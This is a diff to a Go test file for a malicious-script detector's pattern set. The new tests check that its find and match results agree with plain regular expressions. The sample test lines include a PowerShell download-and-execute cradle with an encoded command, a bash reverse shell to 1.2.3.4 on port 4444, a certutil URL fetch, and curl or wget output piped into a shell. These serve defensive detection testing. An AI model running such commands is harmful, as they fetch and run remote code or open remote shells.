@@ -45,37 +45,52 @@ func TestRequiredLiterals(t *testing.T) {
 	}
 }
 
-// checkCandidates fails when a pattern matches line but the prefilter left it out.
-func checkCandidates(t *testing.T, p *patternSet, line string) {
+// checkPatterns fails unless the set answers exactly what its regexps do on line.
+func checkPatterns(t *testing.T, p *patternSet, line string) {
 	t.Helper()
-	mask := p.candidates(line)
+	found := map[int][]int{}
+	last := -1
+	p.find(line, func(k int, loc []int) {
+		if k <= last {
+			t.Fatalf("find reported pattern %d after %d", k, last)
+		}
+		last, found[k] = k, loc
+	})
+	matches := p.matches(line)
 	for k, re := range p.res {
-		if re.MatchString(line) && mask&(1<<k) == 0 {
-			t.Fatalf("pattern %d %q matches %q but was filtered out (mask %b)", k, re, line, mask)
+		want := re.FindStringIndex(line)
+		if got := found[k]; !slices.Equal(got, want) {
+			t.Fatalf("pattern %d %q on %q: find = %v, regexp = %v", k, re, line, got, want)
+		}
+		if got := matches&(1<<k) != 0; got != (want != nil) {
+			t.Fatalf("pattern %d %q on %q: matches = %v, regexp = %v", k, re, line, got, want != nil)
 		}
 	}
 }
 
-// TestPatternSetNeverHidesAMatch runs every script pattern on lines built from the patterns' own
-// literals, in mixed case, with and without non-ASCII bytes.
-func TestPatternSetNeverHidesAMatch(t *testing.T) {
+// TestPatternSetMatchesRegexps runs every script pattern on lines built from the patterns' own
+// literals, in mixed case, with and without non-ASCII bytes, and on the scripts installed here.
+func TestPatternSetMatchesRegexps(t *testing.T) {
 	lines := []string{
 		"", "x", "var a = 1;", "WScript.Shell", "String.fromCharCode(104,116)", "iex (New-Object Net.WebClient).DownloadString('http://x')",
 		"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "@echo off", "fi", "  done  ", "dim x",
 		"Set o = CreateObject(\"WScript.Shell\")", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "import os", "def f(x):",
 		"ſtring.fromCharCode(1)", "\u212aernel", "CHR(65) & CHR(66)", "$env:TEMP", "x => y", "a === b",
+		"if [[ -f x ]]; then", "echo ${HOME}", "x=$(id)", "xfromcharcode fromcharcode", "chr(1) & fromCharCode", ":label",
+		"certutil.exe -urlcache -f http://x", "curl http://x | sh", "wget -qO- http://x|bash",
 	}
 	for _, p := range []*patternSet{cuePatterns, indicatorPatterns} {
 		for _, line := range lines {
-			checkCandidates(t, p, line)
-			checkCandidates(t, p, strings.ToUpper(line))
+			checkPatterns(t, p, line)
+			checkPatterns(t, p, strings.ToUpper(line))
 		}
 		for _, line := range machineScriptLines(t, 30000) {
-			checkCandidates(t, p, line)
+			checkPatterns(t, p, line)
 		}
 		// Most lines of ordinary text must leave most patterns out, or the filter is useless.
-		if n := bits.OnesCount64(p.candidates("the quick brown fox jumps over the lazy dog")); n > len(p.res)/3 {
-			t.Errorf("plain prose is a candidate for %d of %d patterns", n, len(p.res))
+		mask, _ := p.candidates("the quick brown fox jumps over the lazy dog")
+		if n := bits.OnesCount64(mask); n > len(p.parts)/4 {
+			t.Errorf("plain prose is a candidate for %d of %d parts", n, len(p.parts))
 		}
 	}
 }
@@ -85,8 +100,8 @@ func FuzzPatternSet(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
-		checkCandidates(t, cuePatterns, line)
-		checkCandidates(t, indicatorPatterns, line)
+		checkPatterns(t, cuePatterns, line)
+		checkPatterns(t, indicatorPatterns, line)
 	})
 }
 
